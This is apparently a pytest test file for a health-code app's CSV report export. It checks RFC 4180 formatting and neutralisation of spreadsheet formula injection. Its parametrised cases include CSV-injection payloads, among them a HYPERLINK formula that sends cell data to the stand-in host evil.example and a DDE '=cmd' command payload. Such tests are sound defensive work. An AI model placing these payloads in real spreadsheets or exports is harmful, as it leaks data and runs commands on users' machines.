"""Report CSV (healthcode.rules.venues.csv_document): RFC 4180, Excel-readable, and no cell that a
spreadsheet would run as a formula (OWASP CSV injection; the Luca export incident)."""

from __future__ import annotations

import csv
import io

import pytest
from healthcode.rules.venues import BOM, FORMULA_TRIGGERS, NEUTRALISER, csv_cell, csv_document, neutralise
from hypothesis import given, settings
from hypothesis import strategies as st

SPACES = " \u3000\u00a0"


def read(document: str) -> list[list[str]]:
    assert document.startswith(BOM)
    return list(csv.reader(io.StringIO(document[len(BOM) :], newline="")))


def dangerous(cell: str) -> bool:
    """What a spreadsheet would start a formula from (or split a row at)."""
    stripped = cell.lstrip(SPACES)
    return bool(cell) and (cell[0] in FORMULA_TRIGGERS or (bool(stripped) and stripped[0] in "=+-@"))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+86 138", "'+86 138"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("东街口百货大楼", "东街口百货大楼"),
        ("A=B", "A=B"),
        ("", ""),
    ],
)
def test_known_payloads_are_neutralised(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_numbers_stay_numbers_and_text_is_quoted_where_needed() -> None:
    # GIVEN a row with counts, a name with a comma and quotes, and a formula
    document = csv_document(("name", "scans", "abnormal"), [('店,"一"', 12, 0), ("=1+1", 3, 1)])
    # THEN the file reads back with the numbers as written and the formula neutralised
    assert read(document) == [["name", "scans", "abnormal"], ['店,"一"', "12", "0"], ["'=1+1", "3", "1"]]
    assert document.count("\r\n") == 3
    assert csv_cell(None) == "" and csv_cell(True) == "true" and csv_cell(-5) == "-5"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=8))
def test_no_cell_read_back_can_start_a_formula_and_nothing_is_lost(rows: list[list[str]]) -> None:
    # GIVEN any text cells WHEN written and read back as a spreadsheet would
    document = csv_document(("a", "b", "c"), rows)
    back = read(document)[1:]
    # THEN the rows survive, no cell can start a formula, and dropping the added apostrophe
    # gives the original text exactly
    assert len(back) == len(rows)
    for original_row, read_row in zip(rows, back, strict=True):
        for original, cell in zip(original_row, read_row, strict=True):
            assert not dangerous(cell)
            if cell != original:
                assert cell == NEUTRALISER + original and dangerous(original)
            else:
                assert not dangerous(original)
